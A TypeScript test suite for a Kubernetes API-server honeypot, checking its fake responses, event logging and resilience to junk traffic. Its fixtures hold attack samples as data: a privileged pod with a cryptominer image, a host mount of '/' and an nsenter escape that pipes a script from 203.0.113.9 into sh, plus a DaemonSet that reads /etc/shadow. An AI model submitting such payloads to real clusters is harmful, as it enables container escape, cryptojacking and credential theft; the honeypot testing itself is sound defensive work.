// k8s decoy: node's https client on 6443 (TLS with the decky's certificate) and fetch on the
// insecure 8080: discovery, pod listings, a malicious pod submission, exec, secrets, tokens.
import assert from 'node:assert/strict';
import { request } from 'node:https';
import { connect } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { startTestDecky, type TestDecky } from '../harness.ts';

interface Reply {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
  certCN?: string;
}

function tlsRequest(d: TestDecky, method: string, path: string, opts: { body?: unknown; token?: string } = {}): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const body = opts.body === undefined ? undefined : JSON.stringify(opts.body);
    const req = request(
      {
        host: d.ip,
        port: d.port('k8s', 0),
        method,
        path,
        rejectUnauthorized: false,
        headers: { accept: 'application/json', 'user-agent': 'kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3', ...(body ? { 'content-type': 'application/json' } : {}), ...(opts.token ? { authorization: `Bearer ${opts.token}` } : {}) },
      },
      (res) => {
        const chunks: Buffer[] = [];
        const sock = res.socket as import('node:tls').TLSSocket;
        const certCN = sock.getPeerCertificate().subject?.CN as string | undefined;
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => {
          resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks).toString(), certCN });
        });
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

describe('k8s decoy', () => {
  let d: TestDecky;
  let insecure: string;
  before(async () => {
    d = await startTestDecky({ services: ['k8s'], persona: { hostname: 'k8s-master-01' } });
    insecure = `http://${d.ip}:${d.port('k8s', 1)}`;
  });
  after(() => d.stop());

  it('serves /version over TLS with the decky certificate and API-server headers', async () => {
    const r = await tlsRequest(d, 'GET', '/version');
    assert.equal(r.status, 200);
    assert.equal(r.certCN, 'k8s-master-01');
    const v = JSON.parse(r.body) as { major: string; minor: string; gitVersion: string; platform: string };
    assert.deepEqual([v.major, v.minor, v.gitVersion, v.platform], ['1', '28', 'v1.28.5', 'linux/amd64']);
    assert.match(String(r.headers['audit-id']), /^[0-9a-f-]{36}$/);
    assert.equal(r.headers['cache-control'], 'no-cache, private');
    assert.ok(r.headers['x-kubernetes-pf-flowschema-uid']);
    const e = await d.waitForEvent((e) => e.event === 'request' && e.fields.path === '/version');
    assert.match(e.fields.user_agent!, /^kubectl\//);
    assert.equal(e.dst_port, d.port('k8s', 0));
    const hello = await d.waitForEvent((h) => h.event === 'tls_hello' && h.src_port === e.src_port);
    assert.equal(hello.fields.via, 'implicit');
    assert.match(hello.fields.ja3!, /^[0-9a-f]{32}$/);
  });

  it('forbids "/" to anonymous on 6443 but lists paths on the insecure port', async () => {
    const r = await tlsRequest(d, 'GET', '/');
    assert.equal(r.status, 403);
    assert.equal(JSON.parse(r.body).message, 'forbidden: User "system:anonymous" cannot get path "/"');
    const paths = (await (await fetch(`${insecure}/`)).json()) as { paths: string[] };
    assert.ok(paths.paths.includes('/api/v1') && paths.paths.includes('/version'));
  });

  it('lists namespaces and pods, and forbids secrets', async () => {
    const ns = (await (await fetch(`${insecure}/api/v1/namespaces`)).json()) as { kind: string; items: { metadata: { name: string } }[] };
    assert.equal(ns.kind, 'NamespaceList');
    assert.ok(ns.items.some((i) => i.metadata.name === 'kube-system'));
    const pods = JSON.parse((await tlsRequest(d, 'GET', '/api/v1/namespaces/kube-system/pods')).body) as { kind: string; items: { metadata: { name: string } }[] };
    assert.equal(pods.kind, 'PodList');
    assert.ok(pods.items.some((p) => p.metadata.name === 'etcd-k8s-master-01'));
    const secrets = await tlsRequest(d, 'GET', '/api/v1/secrets');
    assert.equal(secrets.status, 403);
    assert.equal(JSON.parse(secrets.body).message, 'secrets is forbidden: User "system:anonymous" cannot list resource "secrets" in API group "" at the cluster scope');
    const nsSecrets = await fetch(`${insecure}/api/v1/namespaces/default/secrets/db-creds`);
    assert.equal(nsSecrets.status, 403);
  });

  it('records a malicious pod (image, command, hostPath, privileged, hostPID) and acknowledges it', async () => {
    const pod = {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'kube-metrics', namespace: 'kube-system' },
      spec: {
        hostPID: true,
        hostNetwork: true,
        containers: [{ name: 'm', image: 'docker.io/attacker/xmrig:latest', command: ['/bin/sh', '-c'], args: ['nsenter -t 1 -m -u -i -n sh -c "curl http://203.0.113.9/k.sh|sh"'], securityContext: { privileged: true }, volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
        volumes: [{ name: 'host', hostPath: { path: '/' } }],
      },
    };
    const r = await tlsRequest(d, 'POST', '/api/v1/namespaces/kube-system/pods', { body: pod });
    assert.equal(r.status, 201);
    const created = JSON.parse(r.body) as { kind: string; metadata: { name: string; uid: string }; status: { phase: string } };
    assert.equal(created.kind, 'Pod');
    assert.equal(created.metadata.name, 'kube-metrics');
    assert.equal(created.status.phase, 'Pending');
    const e = await d.waitForEvent((e) => e.event === 'pod_create');
    assert.equal(e.fields.kind, 'Pod');
    assert.equal(e.fields.namespace, 'kube-system');
    assert.equal(e.fields.name, 'kube-metrics');
    assert.deepEqual(JSON.parse(e.fields.images!), ['docker.io/attacker/xmrig:latest']);
    assert.match(e.fields.commands!, /nsenter -t 1/);
    assert.deepEqual(JSON.parse(e.fields.host_paths!), ['/']);
    assert.equal(e.fields.privileged, 'true');
    assert.equal(e.fields.host_pid, 'true');
    assert.equal(e.fields.host_network, 'true');
  });

  it('records DaemonSet submissions on the insecure port with the template spec', async () => {
    const ds = { apiVersion: 'apps/v1', kind: 'DaemonSet', metadata: { name: 'node-agent' }, spec: { template: { spec: { containers: [{ name: 'a', image: 'busybox', command: ['sh', '-c', 'cat /host/etc/shadow'] }], volumes: [{ name: 'h', hostPath: { path: '/etc' } }] } } } };
    const r = await fetch(`${insecure}/apis/apps/v1/namespaces/default/daemonsets`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(ds) });
    assert.equal(r.status, 201);
    const e = await d.waitForEvent((e) => e.event === 'pod_create' && e.fields.kind === 'DaemonSet');
    assert.deepEqual(JSON.parse(e.fields.images!), ['busybox']);
    assert.deepEqual(JSON.parse(e.fields.host_paths!), ['/etc']);
    assert.equal(e.fields.namespace, 'default');
  });

  it('records exec commands and refuses them', async () => {
    const r = await tlsRequest(d, 'POST', '/api/v1/namespaces/default/pods/redis-0/exec?command=sh&command=-c&command=id&container=redis&stdout=true');
    assert.equal(r.status, 403);
    assert.match(JSON.parse(r.body).message, /cannot create resource "pods\/exec"/);
    const e = await d.waitForEvent((e) => e.event === 'command' && e.fields.via === 'exec');
    assert.deepEqual(JSON.parse(e.fields.cmd!), ['sh', '-c', 'id']);
    assert.equal(e.fields.pod, 'redis-0');
    assert.equal(e.fields.container, 'redis');
  });

  it('rejects bearer tokens with 401 and records them', async () => {
    const token = 'eyJhbGciOiJSUzI1NiIsImtpZCI6IiJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6ZGVmYXVsdDpkZWZhdWx0In0.sig';
    const r = await tlsRequest(d, 'GET', '/api/v1/secrets', { token });
    assert.equal(r.status, 401);
    assert.deepEqual(JSON.parse(r.body), { kind: 'Status', apiVersion: 'v1', metadata: {}, status: 'Failure', message: 'Unauthorized', reason: 'Unauthorized', code: 401 });
    const e = await d.waitForEvent((e) => e.event === 'auth_attempt');
    assert.equal(e.fields.auth_method, 'bearer');
    assert.equal(e.fields.secret_kind, 'http_bearer');
    assert.equal(e.secret?.toString(), token);
  });

  it('survives garbage on both ports and a failed TLS handshake', async () => {
    for (const port of [d.port('k8s', 0), d.port('k8s', 1)]) {
      for (const junk of ['\x16\x03\x01\x00\x05hello', 'BOGUS\r\n\r\n', '\x00\x01\x02\x03']) {
        await new Promise<void>((resolve) => {
          const s = connect({ host: d.ip, port });
          s.resume(); // read the decoy's answer (or alert) so its close is seen
          s.on('error', () => undefined);
          s.on('close', () => resolve());
          s.once('connect', () => s.end(junk));
        });
      }
    }
    const r = await tlsRequest(d, 'GET', '/healthz');
    assert.equal(r.status, 200);
    assert.equal(r.body, 'ok');
  });
});
